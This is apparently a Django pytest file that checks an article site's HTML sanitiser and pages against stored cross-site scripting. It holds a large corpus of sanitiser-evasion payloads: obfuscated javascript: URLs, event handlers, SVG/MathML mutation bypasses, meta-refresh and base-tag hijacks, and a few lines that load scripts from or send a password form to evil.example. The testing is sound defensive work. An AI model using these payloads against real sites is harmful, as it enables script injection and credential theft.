"""Stored XSS: every way text reaches a pair is cleaned, and every page cleans again.

The corpus collects the tricks that have got past HTML sanitisers (Wagtail's and
others' advisories, the OWASP filter evasion list, DOMPurify's mutation bypasses).
Each payload calls `xss(1)`; the checks below parse what comes out and look for
anything a browser would run, rather than for fixed strings.
"""

import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.management import call_command
from django.db import connection
from django.urls import reverse
from reversion.models import Version

from articles.importing.builder import article_import
from articles.models import Article, Block
from articles.preview import make_preview_token
from articles.sanitize import sanitize_html
from articles.services import (
    article_record_revision,
    article_restore,
    article_set_blocks,
)
from bilingual.parser import parse_bytes
from search.index import search_entry_update
from tests.articles.test_admin import article_form_data, change_url
from tests.factories import ArticleFactory, BlockFactory

JAVASCRIPT_URLS = [
    "javascript:xss(1)",
    "JaVaScRiPt:xss(1)",
    " javascript:xss(1)",
    "\x01javascript:xss(1)",
    "\x00javascript:xss(1)",
    "java\tscript:xss(1)",
    "java\nscript:xss(1)",
    "java\rscript:xss(1)",
    "javascript\t:xss(1)",
    "&#106;avascript:xss(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss(1)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58xss(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058xss(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;xss(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;xss(1)",
    "&#X6a&#X61&#X76&#X61&#X73&#X63&#X72&#X69&#X70&#X74&#X3a;xss(1)",
    "&#x0000006A;avascript:xss(1)",
    "javascript&colon;xss(1)",
    "java&Tab;script:xss(1)",
    "java&NewLine;script:xss(1)",
    "jav&#x09;ascript:xss(1)",
    "jav&#x0A;ascript:xss(1)",
    "&#14;  javascript:xss(1)",
    "vbscript:xss(1)",
    "VBScript:xss(1)",
    "livescript:xss(1)",
    "data:text/html,<script>xss(1)</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "DATA:text/html,<script>xss(1)</script>",
    "data:image/svg+xml,<svg onload=xss(1)>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=xss(1)>",
    '<img src="x" onerror="xss(1)">',
    "<img src='x' onerror='xss(1)'>",
    "<img src=x onerror=`xss(1)`>",
    "<img/src=x/onerror=xss(1)>",
    "<img\nsrc=x\nonerror=xss(1)>",
    "<IMG SRC=x ONERROR=xss(1)>",
    "<img src=x OnErRoR=xss(1)>",
    '<p onclick="xss(1)">x</p>',
    '<p onmouseover="xss(1)">x</p>',
    '<a href="https://a.example" onclick="xss(1)">x</a>',
    '<a href="https://a.example" onfocus=xss(1) autofocus>x</a>',
    "<strong onpointerenter=xss(1)>x</strong>",
    "<em onanimationstart=xss(1)>x</em>",
    "<b onclick=xss(1)>x</b>",
    "<i onclick=xss(1)>x</i>",
    "<br onclick=xss(1)>",
    "<body onload=xss(1)>",
    "<details open ontoggle=xss(1)>",
    "<video><source onerror=xss(1)></video>",
    "<audio src=x onerror=xss(1)>",
    "<input autofocus onfocus=xss(1)>",
    "<select autofocus onfocus=xss(1)>",
    "<textarea autofocus onfocus=xss(1)>",
    "<marquee onstart=xss(1)>",
    "<div onpointerover=xss(1)>x</div>",
    "<frameset onload=xss(1)>",
]

SVG_AND_MATHML = [
    "<svg onload=xss(1)>",
    "<svg><script>xss(1)</script></svg>",
    '<svg><a xlink:href="javascript:xss(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:xss(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate onbegin="xss(1)" attributeName="x" dur="1s">',
    '<svg><set attributeName="href" to="javascript:xss(1)"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>',
    "<svg><foreignObject><img src=x onerror=xss(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=xss(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=xss(1)>">',
    '<math><maction actiontype="statusline" xlink:href="javascript:xss(1)">'
    "x<mtext>http://x</mtext></maction></math>",
    '<math><mi xlink:href="javascript:xss(1)">x</mi></math>',
    '<math href="javascript:xss(1)">x</math>',
    "<math><mtext><script>xss(1)</script></mtext></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss(1)>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror=xss(1) src=1>">',
]

STYLE_FORMS_AND_DOCUMENT = [
    '<p style="background:url(javascript:xss(1))">x</p>',
    '<p style="x:expression(xss(1))">x</p>',
    '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:xss(1))}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<form><button formaction="javascript:xss(1)">x</button></form>',
    '<input type="submit" formaction="javascript:xss(1)">',
    '<input type="image" src="x" formaction="javascript:xss(1)">',
    '<isindex type="image" action="javascript:xss(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:xss(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<base href="javascript:xss(1)//">',
    '<object data="javascript:xss(1)"></object>',
    '<object data="data:text/html,<script>xss(1)</script>"></object>',
    '<embed src="javascript:xss(1)">',
    '<iframe src="javascript:xss(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;xss(1)&lt;/script&gt;"></iframe>',
    "<template><img src=x onerror=xss(1)></template>",
    '<template shadowrootmode="open"><img src=x onerror=xss(1)></template>',
    "<script>xss(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<ScRiPt>xss(1)</sCrIpT>",
]

MUTATIONS_COMMENTS_AND_BROKEN_MARKUP = [
    '<noscript><p title="</noscript><img src=x onerror=xss(1)>"></noscript>',
    '<noembed><img title="</noembed><img src=x onerror=xss(1)>"></noembed>',
    '<textarea><img title="</textarea><img src=x onerror=xss(1)>"></textarea>',
    "<xmp><img src=x onerror=xss(1)></xmp>",
    "<title><img src=x onerror=xss(1)></title>",
    '<!--<img src="--><img src=x onerror=xss(1)//">',
    "<!--><img src=x onerror=xss(1)>-->",
    "<!-- --!><img src=x onerror=xss(1)> -->",
    "<!--[if gte IE 4]><script>xss(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=xss(1)>]]>",
    "<? xss(1) ?><img src=x onerror=xss(1)>",
    "<img src=x onerror=xss(1)",
    '<a href="javascript:xss(1)"',
    "<scr<script>ipt>xss(1)</script>",
    "<<script>xss(1)//<</script>",
    '<p>unclosed <a href="https://a.example">one <a href="javascript:xss(1)">two',
    '<a href="https://a.example"><a href="javascript:xss(1)">inner</a></a>',
    '<a href="javascript:xss(1)"><a href="https://a.example">inner</a></a>',
    '<a href="https://a.example" title="&quot; onmouseover=&quot;xss(1)">x</a>',
    "<p>x</p></p><img src=x onerror=xss(1)>",
]

PAYLOADS = [
    *(f'<a href="{url}">x</a>' for url in JAVASCRIPT_URLS),
    *(f"<a href='{url}'>x</a>" for url in JAVASCRIPT_URLS[:8]),
    *(f"<img src='{url}'>" for url in JAVASCRIPT_URLS[:8]),
    *EVENT_HANDLERS,
    *SVG_AND_MATHML,
    *STYLE_FORMS_AND_DOCUMENT,
    *MUTATIONS_COMMENTS_AND_BROKEN_MARKUP,
]

ALLOWED_TAGS = {"p", "strong", "b", "em", "i", "a", "br"}
SAFE_SCHEMES = {"", "http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}
# Tags no pair ever produces and no public page has reason to carry.
FOREIGN_TAGS = {
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "template",
    "math",
}

# Script elements a browser reads as data and never runs (JSON-LD, json_script).
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}


class Elements(HTMLParser):
    """Collect every element and, for scripts, their text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], list[str]]] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        if tag == "script":
            self._in_script = True
            self.scripts.append((attributes, []))

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1][1].append(data)

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False


def url_scheme(value: str) -> str:
    """Return the scheme a browser would see: it strips controls, tabs and newlines."""
    value = value.strip("".join(map(chr, range(0x21))))
    value = value.replace("\t", "").replace("\n", "").replace("\r", "")
    return urlsplit(value).scheme.lower()


def executable_parts(  # noqa: C901 - one walk over every way a page runs code
    html: str, *, inline_styles: bool = False
) -> list[str]:
    """Return what in a page a browser could run or be redirected by.

    With `inline_styles`, style attributes are expected (the WeChat export is
    styled only so) and only those naming a script or an address are reported.
    """
    found = []
    parsed = Elements(html)
    for tag, attributes in parsed.elements:
        if tag in FOREIGN_TAGS:
            found.append(f"<{tag}>")
        # A frame may show our own pages, sandboxed so that nothing in it runs.
        sandbox = attributes.get("sandbox")
        if tag == "iframe" and (sandbox is None or "allow-scripts" in sandbox):
            found.append("<iframe> that may run scripts")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        for name, value in attributes.items():
            if name == "style" and inline_styles:
                if re.search(r"url|expression|xss|javascript", value, re.IGNORECASE):
                    found.append(f"<{tag} style={value!r}>")
            elif name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and url_scheme(value) not in SAFE_SCHEMES:
                found.append(f"<{tag} {name}={value!r}>")
    for attributes, text in parsed.scripts:
        if attributes.get("type", "").lower() in DATA_SCRIPT_TYPES:
            continue
        if "".join(text).strip() or urlsplit(attributes.get("src", "")).netloc:
            found.append(f"<script src={attributes.get('src')!r}>{''.join(text)}")
    return found


def assert_inert(cleaned: str) -> None:
    """Assert `cleaned` holds only the pair editor's markup, nothing to run."""
    assert executable_parts(cleaned) == []
    for tag, attributes in Elements(cleaned).elements:
        assert tag in ALLOWED_TAGS, cleaned
        allowed = {"href", "title", "rel"} if tag == "a" else set()
        assert set(attributes) <= allowed, cleaned
    # What the sanitiser writes reads back the same: no markup that a second
    # parse would turn into something else.
    assert sanitize_html(cleaned) == cleaned


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    assert_inert(sanitize_html(payload))
    assert_inert(sanitize_html(payload, inline=True))


def test_allowed_formatting_survives():
    html = '<p><strong>Bold</strong> <em>it</em> <a href="https://x.cn">link</a></p>'

    assert sanitize_html(html) == (
        "<p><strong>Bold</strong> <em>it</em> "
        '<a href="https://x.cn" rel="noopener noreferrer">link</a></p>'
    )


@pytest.mark.parametrize(
    "href",
    ["https://a.example/x", "http://a.example", "//a.example/x", "mailto:d@x.cn"],
)
def test_links_out_get_noopener_and_lose_their_target(href):
    html = f'<a href="{href}" target="_blank" rel="opener">out</a>'

    assert sanitize_html(html) == (
        f'<a href="{href}" rel="noopener noreferrer">out</a>'
    )


@pytest.mark.parametrize("href", ["/en/articles/bridge/", "#pair-3", "?q=郑州"])
def test_links_within_the_site_are_kept(href):
    cleaned = sanitize_html(f'<a href="{href}">here</a>')

    assert Elements(cleaned).elements == [
        ("a", {"href": href, "rel": "noopener noreferrer"})
    ]


def test_markup_typed_as_text_stays_text():
    html = "<p>Use &lt;script&gt; tags &amp; “quotes”</p>"

    assert sanitize_html(html) == html


def test_headings_keep_inline_formatting_but_no_paragraphs():
    assert sanitize_html("<p>Title <em>now</em></p>", inline=True) == (
        "Title <em>now</em>"
    )


# --- Every path that writes a pair -------------------------------------------------

EVIL_EN = '<p onclick="xss(1)">Hi <a href="javascript:xss(1)">there</a></p>'
EVIL_ZH = "<p>你好<script>xss(1)</script><img src=x onerror=xss(1)></p>"
CLEAN_EN = '<p>Hi <a rel="noopener noreferrer">there</a></p>'
CLEAN_ZH = "<p>你好</p>"


def stored(block_pk: int) -> tuple[str, str, str]:
    """Return the pair's text columns as the database holds them, ORM aside."""
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT text, text_en, text_zh_hans FROM articles_block WHERE id = %s",
            [block_pk],
        )
        return cursor.fetchone()


@pytest.mark.django_db
def test_every_save_sanitises_both_languages():
    block = BlockFactory(text_en=EVIL_EN, text_zh_hans=EVIL_ZH)

    assert stored(block.pk)[1:] == (CLEAN_EN, CLEAN_ZH)


@pytest.mark.django_db
def test_a_heading_is_stored_without_paragraph_tags():
    block = BlockFactory(kind=Block.Kind.HEADING, text_en="<p>A heading</p>")

    block.refresh_from_db()
    assert block.text_en == "A heading"


@pytest.mark.django_db
def test_the_admin_stores_a_posted_pair_sanitised(editor_client):
    article = ArticleFactory()
    data = article_form_data(article, [{"position": 1, "en": EVIL_EN, "zh": EVIL_ZH}])

    response = editor_client.post(change_url(article), data)

    assert response.status_code == 302, response.content.decode()[:2000]
    block = Block.objects.get(article=article)
    assert stored(block.pk)[1:] == (CLEAN_EN, CLEAN_ZH)


@pytest.mark.django_db
def test_the_body_service_stores_pairs_sanitised():
    article = ArticleFactory()

    article_set_blocks(
        article=article,
        blocks=[
            Block(text_en=EVIL_EN, text_zh_hans=EVIL_ZH),
            Block(kind=Block.Kind.HEADING, text_en=f"<h1>{EVIL_EN}</h1>"),
        ],
    )

    first, heading = article.blocks.order_by("position")
    assert stored(first.pk)[1:] == (CLEAN_EN, CLEAN_ZH)
    assert stored(heading.pk)[1] == 'Hi <a rel="noopener noreferrer">there</a>'


@pytest.mark.django_db
def test_the_importer_keeps_markup_in_a_text_as_words(client):
    text = (
        "Why Zhengzhou <script>xss(1)</script> keeps surprising 郑州为何总让人惊喜?\n"
        "\n"
        "Factories opened <img src=x onerror=xss(1)> across the region.\n"
        "全区新开了许多工厂<script>xss(1)</script>。\n"
    )

    article = article_import(parsed=parse_bytes(text.encode())).article

    block = article.blocks.get()
    assert block.text_en == (
        "<p>Factories opened &lt;img src=x onerror=xss(1)&gt; across the region.</p>"
    )
    assert (
        block.text_zh_hans
        == "<p>全区新开了许多工厂&lt;script&gt;xss(1)&lt;/script&gt;。</p>"
    )
    Article.objects.filter(pk=article.pk).update(status=Article.Status.PUBLISHED)
    html = client.get(f"/en/articles/{article.slug}/dual/").content.decode()
    assert executable_parts(html) == []
    assert "Why Zhengzhou &lt;script&gt;xss(1)&lt;/script&gt; keeps" in html


@pytest.mark.django_db
def test_fixtures_are_sanitised_though_loaddata_skips_save(tmp_path):
    article = ArticleFactory()
    fixture = tmp_path / "pairs.json"
    fields = {
        "article": article.pk,
        "position": 1,
        "kind": "paragraph",
        "text": EVIL_EN,
        "text_en": EVIL_EN,
        "text_zh_hans": EVIL_ZH,
    }
    fixture.write_text(
        json.dumps([{"model": "articles.block", "pk": 9001, "fields": fields}])
    )

    call_command("loaddata", str(fixture), verbosity=0)

    assert stored(9001) == (CLEAN_EN, CLEAN_EN, CLEAN_ZH)


@pytest.mark.django_db
def test_a_restored_revision_with_tampered_text_is_sanitised(editor):
    article = ArticleFactory()
    block = BlockFactory(article=article, text_en="<p>Safe</p>")
    article_record_revision(article=article, user=editor)
    version = Version.objects.get_for_object(block).get()
    data = json.loads(version.serialized_data)
    data[0]["fields"].update(text_en=EVIL_EN, text_zh_hans=EVIL_ZH)
    Version.objects.filter(pk=version.pk).update(serialized_data=json.dumps(data))

    article_restore(
        article=article,
        user=editor,
        version_id=Version.objects.get_for_object(article).get().pk,
    )

    restored = article.blocks.get()
    assert stored(restored.pk)[1:] == (CLEAN_EN, CLEAN_ZH)


# --- Text that reached the database past every save -----------------------------

# Everything the corpus holds, on one pair per language, written with UPDATE and
# raw SQL: what a bad migration, a restored dump or a direct edit could leave.
# Less the NUL characters, which a PostgreSQL text column cannot hold.
BODY_EN = "".join(PAYLOADS[::2]).replace("\x00", "")
BODY_ZH = "".join(PAYLOADS[1::2]).replace("\x00", "")


@pytest.fixture
def tampered():
    article = ArticleFactory(
        published=True, slug="tampered", summary_en="Summary.", summary_zh_hans="摘要。"
    )
    heading = BlockFactory(article=article, position=1, kind=Block.Kind.HEADING)
    paragraph = BlockFactory(article=article, position=2)
    quote = BlockFactory(article=article, position=3, kind=Block.Kind.QUOTE)
    Block.objects.filter(pk__in=[heading.pk, quote.pk]).update(
        text_en=BODY_EN, text_zh_hans=BODY_ZH
    )
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE articles_block SET text_en = %s, text_zh_hans = %s WHERE id = %s",
            [BODY_EN, BODY_ZH, paragraph.pk],
        )
    search_entry_update(article=article)
    return article


def public_pages(article):
    token = make_preview_token(article)
    return [
        "/en/",
        "/zh-hans/",
        f"/en/articles/{article.slug}/",
        f"/zh-hans/articles/{article.slug}/",
        f"/en/articles/{article.slug}/dual/",
        f"/zh-hans/articles/{article.slug}/dual/",
        reverse("articles:shared-preview", kwargs={"token": token}),
        "/en/search/?q=findable",
        "/zh-hans/search/?q=中文",
        "/en/search/?q=xss",
        "/en/feeds/rss/",
        "/zh-hans/feeds/atom/",
    ]


@pytest.mark.django_db
def test_text_written_straight_into_the_database_never_runs_on_a_page(client, tampered):
    assert stored(tampered.blocks.get(position=2).pk)[1] == BODY_EN
    for path in public_pages(tampered):
        response = client.get(path, follow=True)  # the share link leads to the page

        assert response.status_code == 200, path
        assert executable_parts(response.content.decode()) == [], path


@pytest.mark.django_db
def test_the_staff_preview_of_tampered_text_runs_nothing(editor_client, tampered):
    url = reverse("admin:articles_article_preview", args=[tampered.pk])

    response = editor_client.get(url)

    assert response.status_code == 200
    assert executable_parts(response.content.decode()) == []


@pytest.mark.django_db
def test_the_wechat_export_of_tampered_text_runs_nothing(editor_client, tampered):
    page = editor_client.get(
        reverse("admin:articles_article_wechat", args=[tampered.pk])
    )
    document = editor_client.get(
        reverse("admin:articles_article_wechat_preview", args=[tampered.pk])
    )

    assert page.status_code == document.status_code == 200
    assert executable_parts(page.content.decode()) == []
    assert executable_parts(document.content.decode(), inline_styles=True) == []


@pytest.mark.django_db
def test_search_snippets_show_tampered_text_as_words(client):
    article = ArticleFactory(published=True)
    block = BlockFactory(article=article)
    Block.objects.filter(pk=block.pk).update(
        text_en="<p>Findable <img src=x onerror=xss(1)>words &lt;b onclick=x&gt;</p>"
    )
    search_entry_update(article=article)

    html = client.get("/en/search/?q=findable").content.decode()

    assert "<mark>Findable</mark> words &lt;b onclick=x&gt;" in html
    assert executable_parts(html) == []


# --- Plain-text fields ------------------------------------------------------------

TITLE = '<script>xss(1)</script>"><img src=x onerror=xss(1)>'


@pytest.fixture
def script_titled():
    article = ArticleFactory(
        published=True,
        slug="script-title",
        title_en=TITLE,
        title_zh_hans=f"标题{TITLE}",
        summary_en=f"Summary {TITLE}",
        summary_zh_hans=f"摘要{TITLE}",
        translation_note_en=f"Note {TITLE}",
    )
    BlockFactory(article=article, text_en="<p>Findable body.</p>")
    search_entry_update(article=article)
    return article


@pytest.mark.django_db
def test_markup_in_titles_and_summaries_is_shown_as_text(client, script_titled):
    for path in public_pages(script_titled):
        html = client.get(path, follow=True).content.decode()

        assert executable_parts(html) == [], path
        assert "&lt;script&gt;xss(1)&lt;/script&gt;" in html or (
            "\\u003Cscript\\u003E" in html
        ), path


@pytest.mark.django_db
def test_json_ld_keeps_a_script_title_inside_its_element(client, script_titled):
    html = client.get("/en/articles/script-title/").content.decode()

    start = html.index('<script type="application/ld+json">')
    end = html.index("</script>", start)
    data = json.loads(html[start + len('<script type="application/ld+json">') : end])
    assert data["headline"] == TITLE
    assert data["description"] == f"Summary {TITLE}"


def test_a_revision_diff_shows_an_ampersand_once_escaped():
    from articles.revisions import diff_text

    diff = diff_text("<p>Ma &amp; Li said</p>", "<p>Ma &amp; Li wrote</p>", "en")
    assert diff == "Ma &amp; Li <del>said</del><ins>wrote</ins>"


def test_plain_text_keeps_a_line_per_paragraph_and_no_entities():
    from articles.sanitize import plain_text

    rich = "<p>A&nbsp;&nbsp;<b>bold</b> &lt;word&gt;</p><p></p><p>郑州<br>河南</p>"
    assert plain_text(rich) == "A bold <word>\n郑州\n河南"
